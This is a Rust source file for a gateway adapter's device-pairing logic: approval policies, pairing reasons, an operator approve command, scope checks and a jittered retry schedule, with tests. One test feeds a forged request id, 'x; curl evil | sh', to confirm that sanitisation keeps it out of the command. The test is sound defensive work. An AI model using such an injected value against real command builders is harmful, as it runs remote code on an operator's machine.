//! Waiting for a person to approve this device. No I/O, no clock of its own.

use std::fmt;
use std::time::{Duration, Instant};

use crate::base::identity::DeviceId;
use crate::base::sanitize::{is_safe_id, word, words};
use crate::protocol::GatewayError;
use crate::protocol::connect::Profile;
use crate::store::DeviceToken;

/// What to do when the gateway wants a person's approval first.
///
/// ```
/// use openclaw_adapter::{Config, PairingPolicy, Token};
///
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// // A job that nobody waits for fails, and says what to approve.
/// let config = Config::builder()
///     .token(Token::new("the-gateways-token")?)
///     .pairing(PairingPolicy::FailFast)
///     .on_pairing(|request| eprintln!("{}", request.approve_command()));
/// # let _ = config;
/// # Ok(())
/// # }
/// ```
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
#[non_exhaustive]
pub enum PairingPolicy {
    /// Ask again until somebody approves, however long it takes. The default: a backend should
    /// need nothing but the approval.
    #[default]
    WaitForever,
    /// Ask again for this long, then stop with [`StopReason::PairingNotApproved`].
    ///
    /// [`StopReason::PairingNotApproved`]: crate::StopReason::PairingNotApproved
    WaitUpTo(Duration),
    /// Stop at the first refusal. The request stays on the gateway for five minutes and can still
    /// be approved for a later start.
    FailFast,
}

/// Why the gateway wants an approval.
#[derive(Clone, Debug, Eq, PartialEq)]
#[non_exhaustive]
pub enum PairingReason {
    /// The gateway does not know this device.
    NotPaired,
    /// The device is known, but not in the role that it asks for; also after its token was revoked.
    RoleUpgrade,
    /// The device is known, but asks for more scopes than were approved.
    ScopeUpgrade,
    /// The device reports another platform or device family than the one approved.
    MetadataUpgrade,
    /// A reason that this version does not know, in the gateway's own word for it.
    Other(String),
}

impl PairingReason {
    /// The gateway's word for it: `not-paired`, `role-upgrade`, `scope-upgrade`, `metadata-upgrade`.
    #[must_use]
    pub fn as_str(&self) -> &str {
        match self {
            Self::NotPaired => "not-paired",
            Self::RoleUpgrade => "role-upgrade",
            Self::ScopeUpgrade => "scope-upgrade",
            Self::MetadataUpgrade => "metadata-upgrade",
            Self::Other(word) => word,
        }
    }

    fn from_wire(said: &str) -> Self {
        match said {
            "not-paired" => Self::NotPaired,
            "role-upgrade" => Self::RoleUpgrade,
            "scope-upgrade" => Self::ScopeUpgrade,
            "metadata-upgrade" => Self::MetadataUpgrade,
            other => Self::Other(word(other)),
        }
    }
}

impl fmt::Display for PairingReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A pending approval: what an operator has to know and to type.
///
/// ```
/// # use openclaw_adapter::{Client, Config, MemoryStore, PairingPolicy, Token};
/// # use openclaw_mock_gateway::MockGateway;
/// use openclaw_adapter::Error;
///
/// # #[tokio::main(flavor = "current_thread")]
/// # async fn main() -> Result<(), Box<dyn std::error::Error>> {
/// # let gateway = MockGateway::start().await;
/// # let config = Config::builder()
/// #     .url(gateway.url())
/// #     .token(Token::new(gateway.token())?)
/// #     .store(MemoryStore::new())
/// #     .pairing(PairingPolicy::FailFast)
/// #     .build()?;
/// if let Err(Error::PairingRequired(request)) = Client::connect(config).await {
///     eprintln!("device {} ({})", request.device_id.short(), request.reason);
///     eprintln!("on the gateway's host: {}", request.approve_command());
/// # let id = gateway.pending()[0].request_id.clone();
/// # assert_eq!(request.approve_command(), format!("openclaw devices approve {id}"));
/// }
/// # Ok(())
/// # }
/// ```
#[derive(Clone, Debug, Eq, PartialEq)]
#[non_exhaustive]
pub struct PairingRequired {
    /// The id to approve. `None` if the gateway gave none, or one that is not safe to put into a
    /// command. It changes when the gateway makes a new request of ours: after five minutes on
    /// 2026.2.9, after a rejection on both generations.
    pub request_id: Option<String>,
    /// This device, as `openclaw devices list` shows it.
    pub device_id: DeviceId,
    /// Why an approval is wanted. 2026.2.9 does not say; there it is told from the device token
    /// that this device holds.
    pub reason: PairingReason,
    /// The role asked for.
    pub requested_role: String,
    /// The scopes asked for on this connection.
    pub requested_scopes: Vec<String>,
    /// The roles that are approved already, where the gateway says so.
    pub approved_roles: Option<Vec<String>>,
    /// The scopes that are approved already, where they are known.
    pub approved_scopes: Option<Vec<String>>,
}

impl PairingRequired {
    /// Reads a `NOT_PAIRED` refusal. `held` is the device token that we have for this gateway and
    /// role: it tells what was approved where the gateway (2026.2.9) does not.
    pub(crate) fn from_error(
        error: &GatewayError,
        device_id: &DeviceId,
        profile: &Profile,
        held: Option<&DeviceToken>,
    ) -> Self {
        let reason = match error.detail("reason") {
            Some(word) => PairingReason::from_wire(word),
            None => match held {
                Some(token) if !covers(token.scopes(), &profile.scopes) => {
                    PairingReason::ScopeUpgrade
                }
                _ => PairingReason::NotPaired,
            },
        };
        let approved_scopes = error.detail_list("approvedScopes").or_else(|| {
            (reason == PairingReason::ScopeUpgrade)
                .then(|| held.map(|token| token.scopes().to_vec()))
                .flatten()
        });
        Self {
            request_id: error
                .detail("requestId")
                .filter(|id| is_safe_id(id))
                .map(ToOwned::to_owned),
            device_id: device_id.clone(),
            reason,
            requested_role: error
                .detail("requestedRole")
                .map_or_else(|| profile.role.clone(), word),
            requested_scopes: error
                .detail_list("requestedScopes")
                .map_or_else(|| profile.scopes.clone(), |list| words(&list)),
            approved_roles: error.detail_list("approvedRoles").as_deref().map(words),
            approved_scopes: approved_scopes.as_deref().map(words),
        }
    }

    /// The command that approves this request, to be typed on the gateway's host; without a usable id,
    /// the one that lists what waits.
    #[must_use]
    pub fn approve_command(&self) -> String {
        match &self.request_id {
            Some(id) => format!("openclaw devices approve {id}"),
            None => "openclaw devices list".to_owned(),
        }
    }
}

impl fmt::Display for PairingRequired {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "device {} has to be approved ({}): it asks for role {} with scopes [{}]",
            self.device_id.short(),
            self.reason,
            self.requested_role,
            self.requested_scopes.join(" ")
        )?;
        if let Some(scopes) = &self.approved_scopes {
            write!(f, ", approved so far [{}]", scopes.join(" "))?;
        }
        Ok(())
    }
}

/// Whether `granted` allows all of `asked`, by the rules of the 2026.9 generation: admin allows
/// everything, write allows read.
pub(crate) fn covers(granted: &[String], asked: &[String]) -> bool {
    let has = |scope: &str| granted.iter().any(|granted| granted == scope);
    has("operator.admin")
        || asked
            .iter()
            .all(|scope| has(scope) || (scope == "operator.read" && has("operator.write")))
}

/// When to ask the gateway again.
///
/// One quick retry, because a gateway that approves by itself may do so a moment after it refused;
/// then every two seconds with jitter, so that an approved backend is ready about as soon as the
/// operator looks up; after ten minutes every fifteen seconds. All far below the five minutes after
/// which 2026.9.6 forgets a request that nobody asks for.
#[derive(Debug, Default)]
pub(crate) struct PairingWait {
    since: Option<Instant>,
    asked: u32,
    announced: Announced,
}

/// What the operator has been told.
#[derive(Debug, Default, Eq, PartialEq)]
enum Announced {
    #[default]
    Nothing,
    Request(Option<String>),
}

/// What the schedule says.
#[derive(Debug, Eq, PartialEq)]
pub(crate) enum WaitStep {
    /// Ask again after this long.
    Ask(Duration),
    /// The policy's time is over.
    GiveUp,
}

const QUICK: Duration = Duration::from_millis(400);
const STEADY: Duration = Duration::from_secs(2);
const SLOW: Duration = Duration::from_secs(15);
const STEADY_FOR: Duration = Duration::from_secs(600);

impl PairingWait {
    /// The gateway has refused once more.
    pub(crate) fn next(
        &mut self,
        now: Instant,
        policy: PairingPolicy,
        rng: &mut fastrand::Rng,
    ) -> WaitStep {
        let since = *self.since.get_or_insert(now);
        let waited = now.saturating_duration_since(since);
        let remaining = match policy {
            PairingPolicy::WaitForever => None,
            PairingPolicy::WaitUpTo(limit) if waited < limit => limit.checked_sub(waited),
            PairingPolicy::WaitUpTo(_) | PairingPolicy::FailFast => return WaitStep::GiveUp,
        };
        self.asked = self.asked.saturating_add(1);
        let interval = if self.asked == 1 {
            QUICK
        } else if waited < STEADY_FOR {
            STEADY
        } else {
            SLOW
        };
        // Only ever earlier: the interval is what the operator was promised.
        let delay = interval.mul_f64(1.0 - 0.25 * rng.f64());
        WaitStep::Ask(remaining.map_or(delay, |remaining| delay.min(remaining)))
    }

    /// Whether this request has to be told to the operator: once per request id.
    pub(crate) fn announce(&mut self, request_id: Option<&str>) -> bool {
        let told = Announced::Request(request_id.map(ToOwned::to_owned));
        let is_news = self.announced != told;
        self.announced = told;
        is_news
    }

    /// The moment of the first refusal, while waiting.
    pub(crate) const fn since(&self) -> Option<Instant> {
        self.since
    }

    /// The device is in: the next refusal starts a new wait.
    pub(crate) fn reset(&mut self) {
        *self = Self::default();
    }

    /// Somebody wants it now: begin the schedule again from its quick end.
    pub(crate) fn hurry(&mut self) {
        self.asked = 0;
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;
    use crate::base::identity::DeviceIdentity;
    use crate::base::secret::Token;
    use crate::protocol::connect::tests::profile;

    fn error(details: &serde_json::Value) -> GatewayError {
        serde_json::from_value(
            json!({"code":"NOT_PAIRED","message":"pairing required","details":details}),
        )
        .unwrap()
    }

    fn device() -> DeviceId {
        DeviceIdentity::generate(0).unwrap().id().clone()
    }

    #[test]
    fn the_new_generation_says_what_is_asked_and_what_is_approved() {
        let pairing = PairingRequired::from_error(
            &error(
                &json!({"code":"PAIRING_REQUIRED","reason":"scope-upgrade","requestId":"6a43983e-02b8",
                "requestedRole":"operator","requestedScopes":["operator.admin"],
                "approvedRoles":["operator"],"approvedScopes":["operator.read"]}),
            ),
            &device(),
            &profile(),
            None,
        );
        assert_eq!(pairing.reason, PairingReason::ScopeUpgrade);
        assert_eq!(pairing.requested_scopes, ["operator.admin"]);
        assert_eq!(
            pairing.approved_scopes.as_deref().unwrap(),
            ["operator.read"]
        );
        assert_eq!(
            pairing.approve_command(),
            "openclaw devices approve 6a43983e-02b8"
        );
    }

    #[test]
    fn the_old_generation_is_read_by_the_token_that_we_hold() {
        let held = DeviceToken::new(
            Token::new("0123456789abcdef").unwrap(),
            "operator",
            vec!["operator.read".into()],
            1,
        );
        let refusal = error(&json!({"requestId":"r-1"}));
        let upgrade = PairingRequired::from_error(&refusal, &device(), &profile(), Some(&held));
        assert_eq!(upgrade.reason, PairingReason::ScopeUpgrade);
        assert_eq!(
            upgrade.approved_scopes.as_deref().unwrap(),
            ["operator.read"]
        );
        let unknown = PairingRequired::from_error(&refusal, &device(), &profile(), None);
        assert_eq!(unknown.reason, PairingReason::NotPaired);
        assert_eq!(unknown.requested_scopes, profile().scopes);
    }

    #[test]
    fn a_forged_request_id_never_reaches_the_command() {
        let pairing = PairingRequired::from_error(
            &error(&json!({"requestId":"x; curl evil | sh","reason":"a\u{1b}[31m"})),
            &device(),
            &profile(),
            None,
        );
        assert_eq!(pairing.request_id, None);
        assert_eq!(pairing.approve_command(), "openclaw devices list");
        assert!(!pairing.to_string().contains('\u{1b}'));
    }

    #[test]
    fn scopes_imply_each_other_as_on_the_gateway() {
        let list =
            |scopes: &[&str]| -> Vec<String> { scopes.iter().map(|s| (*s).into()).collect() };
        assert!(covers(
            &list(&["operator.admin"]),
            &list(&["operator.pairing", "operator.read"])
        ));
        assert!(covers(
            &list(&["operator.write"]),
            &list(&["operator.read"])
        ));
        assert!(!covers(
            &list(&["operator.read"]),
            &list(&["operator.write"])
        ));
        assert!(covers(&list(&[]), &list(&[])));
    }

    #[test]
    fn the_schedule_is_quick_once_then_steady_then_slow() {
        let mut wait = PairingWait::default();
        let mut rng = fastrand::Rng::with_seed(7);
        let start = Instant::now();
        let mut ask = |at: u64| match wait.next(
            start + Duration::from_secs(at),
            PairingPolicy::WaitForever,
            &mut rng,
        ) {
            WaitStep::Ask(delay) => delay,
            WaitStep::GiveUp => panic!("gave up"),
        };
        assert!(ask(0) <= QUICK);
        for at in [1, 3, 100, 599] {
            let delay = ask(at);
            assert!(
                delay <= STEADY && delay >= STEADY.mul_f64(0.75),
                "{at}: {delay:?}"
            );
        }
        let delay = ask(600);
        assert!(delay <= SLOW && delay > STEADY);
    }

    #[test]
    fn a_limited_wait_ends_at_its_limit_and_not_after() {
        let mut wait = PairingWait::default();
        let mut rng = fastrand::Rng::with_seed(7);
        let start = Instant::now();
        let policy = PairingPolicy::WaitUpTo(Duration::from_secs(1));
        wait.next(start, policy, &mut rng);
        let WaitStep::Ask(delay) = wait.next(start + Duration::from_millis(700), policy, &mut rng)
        else {
            panic!("gave up early");
        };
        assert!(delay <= Duration::from_millis(300));
        assert_eq!(
            wait.next(start + Duration::from_secs(1), policy, &mut rng),
            WaitStep::GiveUp
        );
        assert_eq!(
            PairingWait::default().next(start, PairingPolicy::FailFast, &mut rng),
            WaitStep::GiveUp
        );
    }

    proptest! {
        #[test]
        fn a_wait_is_neither_quicker_nor_longer_than_promised(
            seed: u64,
            limit in prop::option::of(1_u64..5_000),
            hurries in prop::collection::vec(any::<prop::sample::Index>(), 0..3),
        ) {
            let policy = limit.map_or(PairingPolicy::WaitForever, |seconds| {
                PairingPolicy::WaitUpTo(Duration::from_secs(seconds))
            });
            let mut wait = PairingWait::default();
            let mut rng = fastrand::Rng::with_seed(seed);
            let start = Instant::now();
            let mut waited = Duration::ZERO;
            let hurries: Vec<_> = hurries.iter().map(|index| index.index(1_000)).collect();
            for asked in 0..1_000_usize {
                let WaitStep::Ask(delay) = wait.next(start + waited, policy, &mut rng) else {
                    let limit = limit.map(Duration::from_secs);
                    prop_assert_eq!(Some(waited), limit, "gave up at another time");
                    break;
                };
                let left = limit.map(|seconds| Duration::from_secs(seconds).saturating_sub(waited));
                let least = QUICK.mul_f64(0.75).min(left.unwrap_or(SLOW));
                prop_assert!(delay >= least && delay <= SLOW, "{delay:?} at {waited:?}");
                waited += delay;
                prop_assert!(limit.is_none_or(|seconds| waited <= Duration::from_secs(seconds)));
                // Nowhere more than once in a second and a half, but for the quick ones.
                let quick = 1 + hurries.iter().filter(|at| **at < asked).count();
                prop_assert!(
                    asked <= quick + 1 || waited >= Duration::from_millis(1_499) * u32::try_from(asked - quick).unwrap()
                        || left.is_some()
                );
                if hurries.contains(&asked) {
                    wait.hurry();
                }
            }
        }
    }

    #[test]
    fn each_request_id_is_announced_once() {
        let mut wait = PairingWait::default();
        assert!(wait.announce(Some("a")));
        assert!(!wait.announce(Some("a")));
        assert!(wait.announce(Some("b")));
        assert!(wait.announce(None));
        assert!(!wait.announce(None));
    }
}
